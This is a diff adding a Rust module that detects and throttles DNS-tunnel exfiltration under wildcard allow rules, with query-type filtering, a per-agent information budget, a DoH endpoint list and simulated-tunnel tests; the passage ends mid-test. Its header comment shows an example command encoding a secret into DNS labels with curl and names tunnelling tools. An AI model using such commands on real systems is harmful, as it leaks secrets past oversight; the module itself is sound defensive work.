@@ -1,0 +1,1024 @@
+//! Exfiltration through allowed wildcards: what a wildcard rule answers, and
+//! how much information an agent may push out in the names it asks about.
+//!
+//! A denied name never leaves, but under `*.cdn.test` every new name goes
+//! upstream, so whoever runs the DNS of an allowed zone can read data encoded
+//! in labels (iodine, dnscat2, `curl $(base32 secret).x.cdn.test`). Two
+//! fences, both only for wildcard rules (exact names carry no chosen data):
+//!
+//! - **Query types.** A wildcard answers A, AAAA, CNAME, HTTPS and SVCB
+//!   unless its entry lists `qtypes:`; the rest (TXT, NULL, ANY, private
+//!   types: the tunnels' favourites) is REFUSED, alerted and audited.
+//! - **A budget** per agent and registrable domain: each *new* name that
+//!   would go upstream is charged an estimate of the bits it can carry; the
+//!   charge drains at a steady rate. Past the soft limit: an alert and an
+//!   audit mark. Past the hard limit: new names under that domain are
+//!   REFUSED for a cooldown. Names already seen, cached answers and local
+//!   zones cost nothing and keep working.
+//!
+//! Memory per agent is fixed ([`AGENT_BYTES`]): a two-generation Bloom
+//! filter of seen names and labels, a count-min sketch of leaky buckets
+//! (conservative update, so a domain's estimate never falls below its true
+//! charge: collisions can only deny early, never let data through), and a
+//! small table of domains in cooldown. The design follows the
+//! information-based heavy hitters idea (ibHH, arXiv 2307.02614): count
+//! information, not queries, in constant space. See docs/exfiltration.md.
+
+use std::collections::HashMap;
+use std::hash::{BuildHasher, Hash, Hasher};
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use hickory_proto::rr::{Name, RecordType};
+
+use crate::policy::Rule;
+
+/// What a wildcard answers when its entry lists no `qtypes`.
+pub const ADDRESS_TYPES: [RecordType; 5] = [
+    RecordType::A,
+    RecordType::AAAA,
+    RecordType::CNAME,
+    RecordType::HTTPS,
+    RecordType::SVCB,
+];
+
+/// Whether a pattern (canonical key) is a wildcard or glob rather than one name.
+pub fn is_wildcard(pattern: &str) -> bool {
+    pattern.contains(['*', '?'])
+}
+
+/// Whether `rule` answers `qtype`: its `qtypes` if listed, else address
+/// types for wildcards and every type for exact names.
+pub fn qtype_allowed(rule: &Rule, qtype: RecordType) -> bool {
+    match &rule.qtypes {
+        Some(listed) => listed.contains(&qtype),
+        None => !is_wildcard(&rule.pattern) || ADDRESS_TYPES.contains(&qtype),
+    }
+}
+
+/// Parses a `qtypes` list: type names (`TXT`, `NULL`, `ANY`, ...) or
+/// `TYPEnnn`. An error names the offending entry.
+pub fn parse_qtypes(list: &[String]) -> Result<Arc<[RecordType]>, (String, String)> {
+    let mut types = Vec::with_capacity(list.len());
+    for raw in list {
+        let upper = raw.trim().to_ascii_uppercase();
+        let parsed = match upper.strip_prefix("TYPE") {
+            Some(n) if !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()) => n
+                .parse::<u16>()
+                .map(RecordType::from)
+                .map_err(|_| "TYPEnnn needs a number up to 65535".to_string()),
+            _ => upper
+                .parse::<RecordType>()
+                .map_err(|_| "unknown record type (use a name like TXT or TYPE65300)".to_string())
+                .and_then(|t| match t {
+                    RecordType::Unknown(_) => Err("unknown record type".to_string()),
+                    t => Ok(t),
+                }),
+        };
+        match parsed {
+            Ok(RecordType::AXFR | RecordType::IXFR) => {
+                return Err((raw.clone(), "zone transfers are never answered".into()));
+            }
+            Ok(t) if !types.contains(&t) => types.push(t),
+            Ok(_) => {}
+            Err(why) => return Err((raw.clone(), why)),
+        }
+    }
+    if types.is_empty() {
+        return Err((
+            String::new(),
+            "lists no type; leave qtypes out for the default".into(),
+        ));
+    }
+    Ok(types.into())
+}
+
+/// The `qtypes` of two entries for the same pattern, merged: what either answers.
+pub fn merge_qtypes(
+    pattern: &str,
+    a: &Option<Arc<[RecordType]>>,
+    b: &Option<Arc<[RecordType]>>,
+) -> Option<Arc<[RecordType]>> {
+    let default: &[RecordType] = if is_wildcard(pattern) {
+        &ADDRESS_TYPES
+    } else {
+        return None; // an exact entry without a list answers everything
+    };
+    let (a, b) = match (a, b) {
+        (None, None) => return None,
+        (Some(a), Some(b)) => (&a[..], &b[..]),
+        (Some(a), None) | (None, Some(a)) => (&a[..], default),
+    };
+    let mut out: Vec<RecordType> = a.to_vec();
+    for t in b {
+        if !out.contains(t) {
+            out.push(*t);
+        }
+    }
+    Some(out.into())
+}
+
+/// Well-known DNS-over-HTTPS/TLS endpoints: allowing one lets the agent
+/// resolve anything past the policy, over an encrypted channel.
+pub const DOH_ENDPOINTS: &[&str] = &[
+    "dns.google",
+    "dns.google.com",
+    "dns64.dns.google",
+    "8888.google",
+    "cloudflare-dns.com",
+    "one.one.one.one",
+    "1dot1dot1dot1.cloudflare-dns.com",
+    "security.cloudflare-dns.com",
+    "family.cloudflare-dns.com",
+    "mozilla.cloudflare-dns.com",
+    "chrome.cloudflare-dns.com",
+    "dns.quad9.net",
+    "dns9.quad9.net",
+    "dns10.quad9.net",
+    "dns11.quad9.net",
+    "doh.opendns.com",
+    "dns.opendns.com",
+    "doh.familyshield.opendns.com",
+    "dns.adguard.com",
+    "dns.adguard-dns.com",
+    "unfiltered.adguard-dns.com",
+    "family.adguard-dns.com",
+    "dns.nextdns.io",
+    "doh.cleanbrowsing.org",
+    "doh.dns.sb",
+    "dns.controld.com",
+    "freedns.controld.com",
+    "doh.mullvad.net",
+    "dns.mullvad.net",
+    "base.dns.mullvad.net",
+    "dns.alidns.com",
+    "doh.pub",
+    "dns.twnic.tw",
+    "doh.libredns.gr",
+    "dns.switch.ch",
+    "odvr.nic.cz",
+    "ordns.he.net",
+    "doh.xfinity.com",
+    "dns0.eu",
+    "zero.dns0.eu",
+];
+
+/// The first well-known DoH/DoT endpoint a canonical pattern allows.
+pub fn doh_endpoint(key: &str) -> Option<&'static str> {
+    if is_wildcard(key) {
+        let glob = wildmatch::WildMatch::new(key);
+        DOH_ENDPOINTS.iter().copied().find(|e| glob.matches(e))
+    } else {
+        DOH_ENDPOINTS.iter().copied().find(|e| *e == key)
+    }
+}
+
+/// A policy's budget (`exfil:`). Sizes are in bits of estimated information.
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub struct Limits {
+    /// `budget: off` turns the budget (not the qtype filter) off.
+    pub enabled: bool,
+    pub soft_bits: f32,
+    pub hard_bits: f32,
+    /// How fast a domain's charge drains.
+    pub drain_bits_per_sec: f32,
+    /// How long new names stay refused once the hard limit is hit.
+    pub cooldown: Duration,
+}
+
+/// Defaults, in bytes: well above the committed corpus of hard legitimate
+/// names (tests/data/legit-names.txt), well below a useful tunnel.
+pub const DEFAULT_SOFT_BYTES: u32 = 8 * 1024;
+pub const DEFAULT_HARD_BYTES: u32 = 16 * 1024;
+pub const DEFAULT_DRAIN_BYTES_PER_MIN: u32 = 480;
+pub const DEFAULT_COOLDOWN_SECS: u32 = 600;
+
+impl Default for Limits {
+    fn default() -> Self {
+        Limits::from_bytes(
+            true,
+            DEFAULT_SOFT_BYTES,
+            DEFAULT_HARD_BYTES,
+            DEFAULT_DRAIN_BYTES_PER_MIN,
+            DEFAULT_COOLDOWN_SECS,
+        )
+    }
+}
+
+impl Limits {
+    pub fn from_bytes(
+        enabled: bool,
+        soft: u32,
+        hard: u32,
+        drain_per_min: u32,
+        cooldown: u32,
+    ) -> Self {
+        Limits {
+            enabled,
+            soft_bits: soft as f32 * 8.0,
+            hard_bits: hard as f32 * 8.0,
+            drain_bits_per_sec: drain_per_min as f32 * 8.0 / 60.0,
+            cooldown: Duration::from_secs(u64::from(cooldown)),
+        }
+    }
+}
+
+/// What the budget says about one question.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Verdict {
+    /// Send it; `true` when the domain is past its soft limit (audit mark).
+    Pass(bool),
+    /// Refuse it: the domain is past its hard limit, or in cooldown.
+    Deny,
+}
+
+/// The audit mark: why a record is flagged (`"exfil":"..."`).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Mark {
+    /// Allowed, but its domain is past the soft limit.
+    Soft,
+    /// Refused: the domain is past the hard limit or in cooldown.
+    Budget,
+    /// Refused: the query type is not answered under this wildcard.
+    Qtype,
+}
+
+impl Mark {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Mark::Soft => "soft",
+            Mark::Budget => "budget",
+            Mark::Qtype => "qtype",
+        }
+    }
+}
+
+/// Bloom filter bits per generation (16 KiB), hash functions, and how
+/// many insertions fill a generation (then the older one is dropped):
+/// about 0.5 % false "seen" at the fullest.
+const SEEN_WORDS: usize = (1 << 17) / 64;
+const SEEN_K: u64 = 3;
+const SEEN_FILL: u32 = 8192;
+/// A generation also ends after this long, so "seen" means "recently".
+const SEEN_AGE_DS: u32 = 36_000;
+/// Count-min sketch of leaky buckets.
+const DEPTH: usize = 4;
+const WIDTH: usize = 1024;
+/// Domains in cooldown remembered at once; beyond it the sketch still
+/// holds their buckets full, so they trip again on the next new name.
+const BLOCKED: usize = 16;
+/// Charged for every new name on top of its labels: the fact and time of
+/// a query carry information too, and it makes floods of tiny names count.
+const PER_NAME_BITS: f32 = 8.0;
+/// Least charged for a label already seen under the same domain. A seen
+/// label still carries a choice among the labels seen there: it is charged
+/// log2 of how many distinct labels the domain has shown (see `distinct`),
+/// at least this, at most what the label would cost new.
+const SEEN_LABEL_BITS: f32 = 2.0;
+/// Count-min sketch (conservative update) of distinct labels first seen per
+/// domain, one per Bloom generation: 2 x 4 x 256 u16 = 4 KiB.
+const LABEL_WIDTH: usize = 256;
+/// At most one qtype/cooldown denial alert per agent in this many deciseconds.
+const ALERT_EVERY_DS: u32 = 50;
+
+#[derive(Clone, Copy, Default)]
+struct Cell {
+    level: f32,
+    /// Deciseconds since the budgets started.
+    at: u32,
+}
+
+/// One agent's state. Fixed size, no heap: this is the per-agent bound.
+pub struct AgentBudget {
+    seen: [[u64; SEEN_WORDS]; 2],
+    current: usize,
+    inserted: u32,
+    generation_start: u32,
+    cells: [[Cell; WIDTH]; DEPTH],
+    /// Distinct labels first seen per domain, per Bloom generation (the
+    /// older generation's count is dropped with it).
+    distinct: [[[u16; LABEL_WIDTH]; DEPTH]; 2],
+    /// (domain hash, cooldown end in deciseconds); 0 is a free slot.
+    blocked: [(u64, u32); BLOCKED],
+    /// Rate limit for denial alerts: (last printed, suppressed since).
+    alerted: (u32, u64),
+}
+
+/// Bytes of one agent's state: the memory bound per agent.
+pub const AGENT_BYTES: usize = std::mem::size_of::<AgentBudget>();
+// The stated bound (docs/exfiltration.md): two 16 KiB generations, 4 x 1024
+// 8-byte cells, 4 KiB of distinct-label counts, a small table. Checked when compiling.
+const _: () = assert!(AGENT_BYTES <= 70 * 1024);
+
+/// Every agent's budget; owned by the handler.
+pub struct Budgets {
+    agents: Mutex<HashMap<Arc<str>, Box<AgentBudget>>>,
+    /// Random keys: an attacker cannot aim names at one sketch cell.
+    hasher: std::collections::hash_map::RandomState,
+    epoch: Instant,
+    /// Tests only: charge as before the red-team fixes (positive controls).
+    legacy: bool,
+}
+
+impl Default for Budgets {
+    fn default() -> Self {
+        Budgets {
+            agents: Mutex::default(),
+            hasher: std::collections::hash_map::RandomState::new(),
+            epoch: Instant::now(),
+            legacy: false,
+        }
+    }
+}
+
+impl Budgets {
+    /// Number of agents tracked (each costs [`AGENT_BYTES`]).
+    pub fn agents(&self) -> usize {
+        self.agents.lock().unwrap_or_else(|p| p.into_inner()).len()
+    }
+
+    /// Drops the state of agents no policy names any more (after a reload).
+    pub fn retain(&self, keep: impl Fn(&str) -> bool) {
+        let mut agents = self.agents.lock().unwrap_or_else(|p| p.into_inner());
+        agents.retain(|agent, _| keep(agent));
+    }
+
+    fn now_ds(&self) -> u32 {
+        // +1 keeps 0 free as the "empty slot" time.
+        u32::try_from(self.epoch.elapsed().as_millis() / 100).unwrap_or(u32::MAX - 1) + 1
+    }
+
+    fn hash(&self, parts: &[&[u8]]) -> u64 {
+        let mut h = self.hasher.build_hasher();
+        for p in parts {
+            p.hash(&mut h);
+        }
+        h.finish()
+    }
+
+    /// Charges a name about to go upstream under the wildcard rule
+    /// `pattern`. `key` is its canonical form (lower case, no trailing dot);
+    /// the labels are measured as sent.
+    ///
+    /// Case: the name goes upstream as the client wrote it (the reply must
+    /// echo the client's question, and 0x20 case randomisation relies on
+    /// it), so its case reaches whoever runs the zone. Rather than rewrite
+    /// names on the shared resolve/cache path, labels are hashed and charged
+    /// as sent: a recased label is a new label, and its alphabet counts
+    /// upper case (log2 53 instead of log2 27 bits a letter).
+    pub fn charge(
+        &self,
+        agent: &Arc<str>,
+        limits: &Limits,
+        name: &Name,
+        key: &str,
+        pattern: &str,
+    ) -> Verdict {
+        if !limits.enabled {
+            return Verdict::Pass(false);
+        }
+        let domain = if self.legacy {
+            registrable(key)
+        } else {
+            budget_domain(key, pattern)
+        };
+        // Labels as sent, below the budget's domain.
+        let below = if domain.is_empty() {
+            key.len()
+        } else {
+            key.len().saturating_sub(domain.len() + 1)
+        };
+        let sent = name.to_ascii();
+        let sent = sent.trim_end_matches('.');
+        let head = if sent.len() == key.len() {
+            &sent[..below]
+        } else {
+            &key[..below]
+        };
+        let now = self.now_ds();
+        let name_h = self.hash(&[b"n", sent.as_bytes()]);
+        let domain_h = self.hash(&[b"d", domain.as_bytes()]).max(1);
+        let mut agents = self.agents.lock().unwrap_or_else(|p| p.into_inner());
+        let budget = agents.entry(agent.clone()).or_insert_with(AgentBudget::new);
+        budget.rotate(now);
+        if budget.seen(name_h) {
+            return Verdict::Pass(false);
+        }
+        if let Some(until) = budget.blocked_until(domain_h, now) {
+            if budget.may_alert(now) {
+                tracing::warn!(
+                    agent = %agent, domain, qname = %sent, suppressed = budget.alerted.1,
+                    cooldown_left_s = (until - now) / 10,
+                    "[!] EXFILTRATION BUDGET: new name refused, domain in cooldown"
+                );
+                budget.alerted.1 = 0;
+            }
+            return Verdict::Deny;
+        }
+        let mut cost = PER_NAME_BITS;
+        let mut label_hashes = [0u64; 128];
+        let mut labels = 0;
+        let mut fresh = 0u16;
+        // What a seen label can carry: a choice among the domain's labels.
+        let choice = budget.distinct(domain_h).max(1) as f32;
+        for label in head.split('.').filter(|l| !l.is_empty()) {
+            let lowered;
+            let hashed = if self.legacy {
+                lowered = label.to_ascii_lowercase();
+                lowered.as_str()
+            } else {
+                label
+            };
+            let h = self.hash(&[b"l", domain.as_bytes(), hashed.as_bytes()]);
+            let full = label_bits(label.as_bytes());
+            cost += if !budget.seen(h) {
+                fresh = fresh.saturating_add(1);
+                full
+            } else if self.legacy {
+                SEEN_LABEL_BITS
+            } else {
+                choice.log2().max(SEEN_LABEL_BITS).min(full)
+            };
+            if labels < label_hashes.len() {
+                label_hashes[labels] = h;
+                labels += 1;
+            }
+        }
+        let drain = limits.drain_bits_per_sec / 10.0;
+        let before = budget.estimate(domain_h, now, drain);
+        if before + cost > limits.hard_bits {
+            budget.fill(domain_h, now, drain, limits.hard_bits);
+            let until = now.saturating_add(
+                u32::try_from(limits.cooldown.as_millis() / 100).unwrap_or(u32::MAX / 2),
+            );
+            budget.block(domain_h, until);
+            tracing::error!(
+                agent = %agent, domain, qname = %sent,
+                estimated_bytes = (before / 8.0) as u64,
+                hard_bytes = (limits.hard_bits / 8.0) as u64,
+                cooldown_s = limits.cooldown.as_secs(),
+                "[!] EXFILTRATION BUDGET EXCEEDED: new names under this domain refused for the cooldown"
+            );
+            return Verdict::Deny;
+        }
+        let after = budget.add(domain_h, now, drain, cost);
+        budget.count_distinct(domain_h, fresh);
+        budget.insert(name_h);
+        for h in &label_hashes[..labels] {
+            budget.insert(*h);
+        }
+        if before < limits.soft_bits && after >= limits.soft_bits {
+            tracing::warn!(
+                agent = %agent, domain, qname = %sent,
+                estimated_bytes = (after / 8.0) as u64,
+                soft_bytes = (limits.soft_bits / 8.0) as u64,
+                "[!] EXFILTRATION BUDGET: soft limit passed (new names under this domain carry much data)"
+            );
+        }
+        Verdict::Pass(after >= limits.soft_bits)
+    }
+
+    /// Alerts (rate-limited per agent) that a wildcard refused a query type.
+    pub fn qtype_denied(
+        &self,
+        agent: &Arc<str>,
+        client: SocketAddr,
+        name: &Name,
+        qtype: RecordType,
+        rule: &str,
+    ) {
+        let now = self.now_ds();
+        let mut agents = self.agents.lock().unwrap_or_else(|p| p.into_inner());
+        let budget = agents.entry(agent.clone()).or_insert_with(AgentBudget::new);
+        if budget.may_alert(now) {
+            tracing::warn!(
+                agent = %agent, %client, qname = %name, %qtype, rule,
+                suppressed = budget.alerted.1,
+                "[!] QUERY TYPE REFUSED under a wildcard (list it in the entry's qtypes to allow it)"
+            );
+            budget.alerted.1 = 0;
+        }
+    }
+}
+
+/// The registrable domain a canonical name is charged to (the name itself
+/// when it is a public suffix or has no parent).
+fn registrable(key: &str) -> &str {
+    crate::policy::registrable_domain(key).unwrap_or(key)
+}
+
+/// The domain whose budget a name under `pattern` is charged to: its
+/// registrable domain, unless the pattern's fixed suffix (the labels after
+/// its last wildcard) is shorter: then the pattern's chosen labels reach
+/// into the registrable domain itself, and each `<data>.github.io` under
+/// `*.github.io` would get a fresh budget. Such names are pooled under the
+/// longer of the fixed suffix and the name's public suffix: `github.io`
+/// for `*.github.io`; `s3.amazonaws.com` for a bucket under
+/// `*.amazonaws.com`. Not coarser than the public suffix, so that a broad
+/// wildcard over a provider (whose DNS the provider runs) keeps one budget
+/// per service and region as the public suffix list draws them, rather
+/// than one for all of them (which the legitimate corpus overruns).
+pub fn budget_domain<'a>(key: &'a str, pattern: &str) -> &'a str {
+    let domain = registrable(key);
+    let fixed = match pattern.rfind(['*', '?']) {
+        Some(at) => pattern[at..].split_once('.').map_or("", |(_, rest)| rest),
+        None => return domain,
+    };
+    let labels = |s: &str| {
+        if s.is_empty() {
+            0
+        } else {
+            s.split('.').count()
+        }
+    };
+    if labels(fixed) >= labels(domain) {
+        return domain;
+    }
+    let public = domain.split_once('.').map_or("", |(_, suffix)| suffix);
+    let n = labels(fixed).max(labels(public));
+    if n == 0 {
+        return "";
+    }
+    // The key's last n labels.
+    let cut = key
+        .rmatch_indices('.')
+        .nth(n - 1)
+        .map_or(0, |(at, _)| at + 1);
+    &key[cut..]
+}
+
+/// The most a label can carry: its length times the bits per character of
+/// the smallest common alphabet holding it. An upper bound on purpose (a
+/// short random label's empirical entropy understates it); words repeat,
+/// and repeated labels are charged [`SEEN_LABEL_BITS`].
+pub fn label_bits(label: &[u8]) -> f32 {
+    let (mut lower, mut upper, mut digit, mut other, mut hex_only) =
+        (false, false, false, false, true);
+    for &b in label {
+        match b {
+            b'a'..=b'f' => lower = true,
+            b'g'..=b'z' => {
+                lower = true;
+                hex_only = false;
+            }
+            b'A'..=b'Z' => {
+                upper = true;
+                hex_only = false;
+            }
+            b'0'..=b'9' => digit = true,
+            b'-' => {}
+            _ => other = true,
+        }
+    }
+    let alphabet: f32 = if other {
+        256.0
+    } else if hex_only && !upper {
+        if lower { 17.0 } else { 11.0 }
+    } else {
+        let mut n = 1.0; // '-'
+        if lower {
+            n += 26.0;
+        }
+        if upper {
+            n += 26.0;
+        }
+        if digit {
+            n += 10.0;
+        }
+        n
+    };
+    label.len() as f32 * alphabet.log2()
+}
+
+impl AgentBudget {
+    fn new() -> Box<Self> {
+        Box::new(AgentBudget {
+            seen: [[0; SEEN_WORDS]; 2],
+            current: 0,
+            inserted: 0,
+            generation_start: 0,
+            cells: [[Cell::default(); WIDTH]; DEPTH],
+            distinct: [[[0; LABEL_WIDTH]; DEPTH]; 2],
+            blocked: [(0, 0); BLOCKED],
+            alerted: (0, 0),
+        })
+    }
+
+    fn bits(h: u64) -> impl Iterator<Item = usize> {
+        let (a, b) = (h, (h >> 32) | 1);
+        (0..SEEN_K)
+            .map(move |i| (a.wrapping_add(i.wrapping_mul(b)) % (SEEN_WORDS as u64 * 64)) as usize)
+    }
+
+    fn seen(&self, h: u64) -> bool {
+        self.seen
+            .iter()
+            .any(|g| Self::bits(h).all(|bit| g[bit / 64] & (1 << (bit % 64)) != 0))
+    }
+
+    fn insert(&mut self, h: u64) {
+        for bit in Self::bits(h) {
+            self.seen[self.current][bit / 64] |= 1 << (bit % 64);
+        }
+        self.inserted += 1;
+    }
+
+    /// Starts a new generation when the current one is full or old.
+    fn rotate(&mut self, now: u32) {
+        if self.generation_start == 0 {
+            self.generation_start = now;
+        }
+        if self.inserted >= SEEN_FILL || now.saturating_sub(self.generation_start) >= SEEN_AGE_DS {
+            self.current ^= 1;
+            self.seen[self.current] = [0; SEEN_WORDS];
+            self.distinct[self.current] = [[0; LABEL_WIDTH]; DEPTH];
+            self.inserted = 0;
+            self.generation_start = now;
+        }
+    }
+
+    fn column(h: u64, row: usize) -> usize {
+        let (a, b) = (h, (h >> 29) | 1);
+        (a.wrapping_add((row as u64).wrapping_mul(b))
+            .rotate_left(row as u32 * 13)
+            % WIDTH as u64) as usize
+    }
+
+    /// Distinct labels the domain has shown in both live generations:
+    /// never below the truth (count-min; a label in both counts twice).
+    fn distinct(&self, h: u64) -> u32 {
+        self.distinct
+            .iter()
+            .map(|g| {
+                (0..DEPTH)
+                    .map(|row| g[row][Self::column(h, row) % LABEL_WIDTH])
+                    .min()
+                    .unwrap_or(0) as u32
+            })
+            .sum()
+    }
+
+    fn count_distinct(&mut self, h: u64, fresh: u16) {
+        if fresh == 0 {
+            return;
+        }
+        let g = &mut self.distinct[self.current];
+        let target = (0..DEPTH)
+            .map(|row| g[row][Self::column(h, row) % LABEL_WIDTH])
+            .min()
+            .unwrap_or(0)
+            .saturating_add(fresh);
+        for (row, counts) in g.iter_mut().enumerate() {
+            let c = &mut counts[Self::column(h, row) % LABEL_WIDTH];
+            *c = (*c).max(target);
+        }
+    }
+
+    fn level(cell: &Cell, now: u32, drain_per_ds: f32) -> f32 {
+        (cell.level - now.saturating_sub(cell.at) as f32 * drain_per_ds).max(0.0)
+    }
+
+    /// The domain's charge: never below the truth (count-min).
+    fn estimate(&self, h: u64, now: u32, drain: f32) -> f32 {
+        (0..DEPTH)
+            .map(|row| Self::level(&self.cells[row][Self::column(h, row)], now, drain))
+            .fold(f32::INFINITY, f32::min)
+    }
+
+    /// Conservative update: raise each cell only to the new estimate.
+    fn add(&mut self, h: u64, now: u32, drain: f32, cost: f32) -> f32 {
+        let target = self.estimate(h, now, drain) + cost;
+        self.fill(h, now, drain, target);
+        target
+    }
+
+    fn fill(&mut self, h: u64, now: u32, drain: f32, target: f32) {
+        for row in 0..DEPTH {
+            let cell = &mut self.cells[row][Self::column(h, row)];
+            let level = Self::level(cell, now, drain);
+            *cell = Cell {
+                level: level.max(target),
+                at: now,
+            };
+        }
+    }
+
+    fn blocked_until(&self, h: u64, now: u32) -> Option<u32> {
+        self.blocked
+            .iter()
+            .find(|(d, until)| *d == h && *until > now)
+            .map(|(_, until)| *until)
+    }
+
+    /// Remembers a cooldown; a full table gives up the one ending soonest.
+    fn block(&mut self, h: u64, until: u32) {
+        let slot = self
+            .blocked
+            .iter_mut()
+            .min_by_key(|(d, u)| if *d == h { 0 } else { *u })
+            .expect("non-empty table");
+        *slot = (h, until);
+    }
+
+    fn may_alert(&mut self, now: u32) -> bool {
+        if self.alerted.0 != 0 && now.saturating_sub(self.alerted.0) < ALERT_EVERY_DS {
+            self.alerted.1 += 1;
+            return false;
+        }
+        self.alerted.0 = now;
+        true
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn name(s: &str) -> Name {
+        Name::from_ascii(s).unwrap()
+    }
+
+    fn charge(b: &Budgets, limits: &Limits, s: &str) -> Verdict {
+        let key = s.to_ascii_lowercase();
+        let pattern = format!("*.{}", registrable(&key));
+        b.charge(&"a".into(), limits, &name(s), &key, &pattern)
+    }
+
+    #[test]
+    fn agents_whose_policy_went_are_dropped() {
+        let b = Budgets::default();
+        charge(&b, &Limits::default(), "x.cdn.test");
+        assert_eq!(b.agents(), 1);
+        b.retain(|agent| agent == "a");
+        assert_eq!(b.agents(), 1);
+        b.retain(|_| false);
+        assert_eq!(b.agents(), 0);
+    }
+
+    #[test]
+    fn label_bits_bound_the_alphabet() {
+        assert_eq!(label_bits(b"0123"), 4.0 * 11f32.log2());
+        assert!((label_bits(b"deadbeef") - 8.0 * 17f32.log2()).abs() < 1e-3);
+        assert!((label_bits(b"r4---sn-5hne6nsz") - 16.0 * 37f32.log2()).abs() < 1e-3);
+        assert!(label_bits(b"aBc") > label_bits(b"abc"));
+    }
+
+    #[test]
+    fn a_tunnel_hits_the_hard_limit_then_cools_down_while_seen_names_pass() {
+        let b = Budgets::default();
+        let limits = Limits::from_bytes(true, 1024, 2048, 0, 600);
+        assert_eq!(charge(&b, &limits, "www.cdn.test"), Verdict::Pass(false));
+        let mut passed = 0;
+        let mut first_deny = None;
+        for i in 0..1000 {
+            let n = format!("{:0>60}.t.cdn.test", format!("{i:x}"));
+            match charge(&b, &limits, &n) {
+                Verdict::Pass(_) => passed += 1,
+                Verdict::Deny => {
+                    first_deny.get_or_insert(i);
+                }
+            }
+        }
+        // 60 hex-ish chars ~ 245 bits + overhead per name: ~64 names fit in 16 kbit.
+        assert!((40..80).contains(&passed), "{passed}");
+        let _ = first_deny.unwrap();
+        // Already seen names keep working; other domains are untouched.
+        assert_eq!(charge(&b, &limits, "www.cdn.test"), Verdict::Pass(false));
+        assert!(matches!(
+            charge(&b, &limits, "new.other.test"),
+            Verdict::Pass(_)
+        ));
+        assert_eq!(charge(&b, &limits, "tiny.cdn.test"), Verdict::Deny);
+    }
+
+    #[test]
+    fn soft_limit_marks_and_repeated_labels_are_cheap() {
+        let b = Budgets::default();
+        let limits = Limits::from_bytes(true, 64, 100_000, 0, 600);
+        let mut marked = 0;
+        for i in 0..200 {
+            if charge(&b, &limits, &format!("img{}.static.shop.test", i % 3)) == Verdict::Pass(true)
+            {
+                marked += 1;
+            }
+        }
+        assert_eq!(
+            marked, 0,
+            "three names, asked again and again, cost nothing more"
+        );
+        let mut marked = 0;
+        for i in 0..200 {
+            if charge(&b, &limits, &format!("{i:08x}.shop.test")) == Verdict::Pass(true) {
+                marked += 1;
+            }
+        }
+        assert!(marked > 150, "{marked}");
+    }
+
+    #[test]
+    fn the_budget_drains() {
+        let b = Budgets::default();
+        // Drains 1 KiB per second: the full budget is gone in a second.
+        let limits = Limits::from_bytes(true, 512, 1024, 60 * 1024, 0);
+        for i in 0..100 {
+            charge(&b, &limits, &format!("{i:0>50}.x.test"));
+        }
+        assert_eq!(charge(&b, &limits, "fresh000.x.test"), Verdict::Deny);
+        std::thread::sleep(Duration::from_millis(1300));
+        assert!(matches!(
+            charge(&b, &limits, "fresh123.x.test"),
+            Verdict::Pass(false)
+        ));
+    }
+
+    #[test]
+    fn the_legit_corpus_stays_under_the_soft_limit_without_any_drain() {
+        let corpus = std::fs::read_to_string(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/tests/data/legit-names.txt"
+        ))
+        .unwrap();
+        let limits = Limits {
+            drain_bits_per_sec: 0.0,
+            ..Limits::default()
+        };
+        for legacy in [true, false] {
+            let b = Budgets {
+                legacy,
+                ..Budgets::default()
+            };
+            for n in corpus.lines() {
+                // As tests/exfil.rs allows them: `*.` and the zone's two labels.
+                let zone = n.rsplitn(3, '.').take(2).collect::<Vec<_>>();
+                let pattern = format!("*.{}.{}", zone[1], zone[0]);
+                let v = b.charge(&"a".into(), &limits, &name(n), n, &pattern);
+                if !legacy {
+                    assert_eq!(v, Verdict::Pass(false), "{n}");
+                }
+            }
+            // The heaviest domain, for the docs.
+            let agents = b.agents.lock().unwrap();
+            let a = agents.get("a").unwrap();
+            let max = a.cells[0].iter().map(|c| c.level).fold(0.0, f32::max);
+            eprintln!("legacy {legacy}: heaviest cell: {} bytes", max / 8.0);
+        }
+    }
+
+    /// Bytes of payload that got through: names passed times the bits each
+    /// carries, under the current charge and the pre-fix one.
+    fn leaked(names: &[String], pattern: &str, payload_bits: f32) -> (f32, f32) {
+        let limits = Limits {
+            drain_bits_per_sec: 0.0,
+            ..Limits::default()
+        };
+        let run = |legacy: bool| {
+            let b = Budgets {
+                legacy,
+                ..Budgets::default()
+            };
+            let passed = names
+                .iter()
+                .filter(|n| {
+                    let key = n.to_ascii_lowercase();
+                    b.charge(&"a".into(), &limits, &name(n), &key, pattern) != Verdict::Deny
+                })
+                .count();
+            passed as f32 * payload_bits / 8.0
+        };
+        (run(true), run(false))
+    }
+
+    const HARD: f32 = DEFAULT_HARD_BYTES as f32;
+
+    #[test]
+    fn letter_case_carries_no_free_information() {
+        // The red team's casex.py: 3 x 63 'a's, each letter's case a bit.
+        let mut rng = 7u64;
+        let mut bit = || {
+            rng = rng
+                .wrapping_mul(6364136223846793005)
+                .wrapping_add(1442695040888963407);
+            rng >> 63 == 1
+        };
+        let names: Vec<String> = (0..3000)
+            .map(|_| {
+                let label = |bit: &mut dyn FnMut() -> bool| -> String {
+                    (0..63).map(|_| if bit() { 'A' } else { 'a' }).collect()
+                };
+                format!(
+                    "{}.{}.{}.cdn.test",
+                    label(&mut bit),
+                    label(&mut bit),
+                    label(&mut bit)
+                )
+            })
+            .collect();
+        let (before, after) = leaked(&names, "*.cdn.test", 189.0);
+        eprintln!("case: {before} bytes before, {after} after (hard {HARD})");
+        assert!(before > 4.0 * HARD, "positive control: {before}");
+        assert!(after < HARD, "{after}");
+    }
+
+    #[test]
+    fn a_wildcard_on_a_public_suffix_shares_one_budget() {
+        assert_eq!(budget_domain("x.github.io", "*.github.io"), "github.io");
+        assert_eq!(budget_domain("a.b.github.io", "*.github.io"), "github.io");
+        assert_eq!(
+            budget_domain("x.api.example.com", "*.api.example.com"),
+            "example.com"
+        );
+        assert_eq!(
+            budget_domain("a.b.example.com", "*.example.com"),
+            "example.com"
+        );
+        assert_eq!(
+            budget_domain("img-7.cdn.shop.co.uk", "img-*.cdn.shop.co.uk"),
+            "shop.co.uk"
+        );
